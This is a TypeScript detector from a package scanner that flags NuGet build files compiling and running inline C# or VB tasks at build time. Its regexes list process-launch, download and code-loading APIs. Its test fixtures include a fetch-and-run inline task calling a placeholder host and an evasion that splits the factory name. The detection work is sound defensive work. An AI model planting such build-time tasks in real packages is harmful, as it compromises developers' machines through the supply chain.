import type { Detector } from "../detector.ts";
import type { ReleaseTree } from "../model.ts";
import type { XmlNode } from "../xml.ts";
import { attackShare } from "./_commands.ts";
import { attribute, type BuildFile, buildFiles, elements, expand, sightElement } from "./_msbuild.ts";

/** Starts programs or makes bytes into code. */
const ACTS =
  /\bProcess\.Start\b|\bProcessStartInfo\b|\bnew Process\b|\bAssembly\.Load\b|\bVirtualAlloc\b|\bMarshal\.Copy\b/;
/** Reaches out. */
const FETCHES = /\bWebClient\b|\bHttpClient\b|\bWebRequest\b|\bDownload(?:String|File|Data)\b|\bTcpClient\b|\bSocket\b/;
/** Decodes, writes programs, reads everything, or calls into the system. */
const HIDES = /\bDllImport\b|\bFromBase64String\b|\bWriteAllBytes\b|\bGetEnvironmentVariables\(\)|\bRegistry\b/;

export const buildFileCompilesCode: Detector = {
  id: "build-file-compiles-code",
  title: "A build file of the package holds program text that is compiled and run at build",
  severity: "high",
  ecosystems: ["nuget"],
  points: 5,
  class: "threat",
  group: "build-attacks",
  why: `An inline task (\`RoslynCodeTaskFactory\`, \`CodeTaskFactory\`) is C# or Visual Basic inside the build file; MSBuild compiles and runs it.
Malware of October 2023 carried its downloader there because scanners look for scripts and assemblies.

Some honest packages do small file work in inline tasks. It counts fully only where the text starts programs, loads bytes as code or
reaches out.`,
  literals: ["codetaskfactory", "xamltaskfactory"],
  *detect(tree) {
    for (const build of buildFiles(tree)) {
      for (const task of elements(build.root, "usingtask")) {
        if (!/(?:Code|Xaml)TaskFactory$/i.test(expand(build, attribute(task, "taskfactory")))) continue;
        const { says, share } = weigh(textOf(tree, build, task));
        yield sightElement(build, task, `an inline task ${says}`, share);
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="x"><Task><Code Type="Fragment"><![CDATA[System.Diagnostics.Process.Start(new System.Net.WebClient().DownloadString("https://example.invalid/"));]]></Code></Task></UsingTask></Project>',
        },
      },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><UsingTask TaskName="Demo.Task" AssemblyFile="$(MSBuildThisFileDirectory)..\\tools\\Demo.dll" /></Project>',
        },
      },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "build/Demo.targets":
            '<Project><PropertyGroup><F>Factory</F></PropertyGroup><UsingTask TaskName="T" TaskFactory="CodeTask$(F)" AssemblyFile="x"><Task><Code Source="a.txt" /></Task></UsingTask><!-- codetaskfactory --></Project>',
          "build/a.txt": "class T { void Execute() { System.Reflection.Assembly.Load(b); } }",
        },
      },
    ],
  },
};

/** The program text, in the file itself or in a file of the package beside it. */
function textOf(tree: ReleaseTree, build: BuildFile, task: XmlNode): string {
  const parts: string[] = [];
  for (const code of elements(task, "code")) {
    parts.push(code.text);
    const source = expand(build, attribute(code, "source"))
      .replace(/\$\(\w{1,60}\)/g, "/")
      .replaceAll("\\", "/")
      .split("/")
      .at(-1);
    if (source === undefined || source === "") continue;
    const found = tree.files.find((file) => file.path === source || file.path.endsWith(`/${source}`));
    if (found) parts.push(found.text.slice(0, 200_000));
  }
  // A XamlTaskFactory's task is a command line in the text of its body.
  for (const body of elements(task, "task")) parts.push(body.text);
  return parts.join("\n");
}

function weigh(text: string): { readonly says: string; readonly share: number } {
  const acts = ACTS.exec(text)?.[0];
  const fetches = FETCHES.exec(text)?.[0];
  const hides = HIDES.exec(text)?.[0];
  const found = [acts, fetches, hides].filter((word) => word !== undefined);
  const attacks = attackShare(text.slice(0, 100_000));
  if (found.length === 0 && attacks === 1) return { says: "is compiled at build and attacks", share: 1 };
  if (found.length === 0) return { says: "is compiled at build", share: 0.3 };
  const loads = acts === "Assembly.Load" || attacks >= 0.8;
  const share = loads || (fetches !== undefined && found.length > 1) ? 1 : 0.6;
  return { says: `is compiled at build and uses ${found.join(", ")}`, share };
}
